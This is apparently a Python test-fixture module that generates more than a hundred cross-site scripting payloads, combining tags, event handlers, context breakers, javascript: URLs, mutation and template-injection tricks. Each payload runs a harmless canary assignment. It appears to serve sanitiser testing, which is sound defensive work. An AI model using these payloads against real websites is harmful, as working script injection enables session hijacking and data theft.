"""Texts that would run a script if a page took them for markup, an address or code."""

from __future__ import annotations

from itertools import product

CALL = "window.canary=1"

_TAGS = (
    "script",
    "img",
    "svg",
    "iframe",
    "body",
    "input",
    "details",
    "video",
    "audio",
    "object",
    "embed",
    "marquee",
    "math",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin")
_BREAKERS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "`", "]]>", "</style>")

_WHOLE = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<a href=javascript:{CALL}>x</a>",
    f'<a href="java\tscript:{CALL}">x</a>',
    f"[x](javascript:{CALL})",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<form><button formaction=javascript:{CALL}>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href=javascript:{CALL}//>",
    f"<style>@import 'javascript:{CALL}';</style>",
    f"<link rel=stylesheet href='data:text/css,*{{x:expression({CALL})}}'>",
    f"<math><mtext><style><img src=x onerror={CALL}></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"`+{CALL}+`",
    f"';{CALL};//",
    f'";{CALL};//',
    f"\u2028{CALL}\u2029",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"<!--<script>{CALL}</script>-->",
    f"<x style=animation-name:pulse onanimationstart={CALL}>",
    f'{{"__proto__":{{"canary":1}},"html":"<img src=x onerror={CALL}>"}}',
)


def payloads() -> list[str]:
    """More than a hundred of them, all different."""
    made = [
        f"{breaker}<{tag} src=x autofocus open {event}={CALL}>"
        for (place, (tag, event)), breaker in zip(
            enumerate(product(_TAGS, _EVENTS)), _BREAKERS * 20, strict=False
        )
    ]
    return list(dict.fromkeys([*_WHOLE, *made]))
